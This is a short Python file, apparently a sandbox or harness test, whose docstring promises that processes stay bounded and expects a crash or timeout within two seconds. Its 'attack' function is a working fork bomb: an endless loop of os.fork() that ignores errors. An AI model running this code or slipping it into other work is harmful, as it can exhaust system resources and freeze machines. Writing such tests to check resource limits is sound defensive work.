"""Forks without end.

Promise: processes are bounded; the machine stays responsive
Expect: crash or timeout
Seconds: 2
"""

import os


def attack(train, budget):
    while True:
        try:
            os.fork()
        except OSError:
            pass
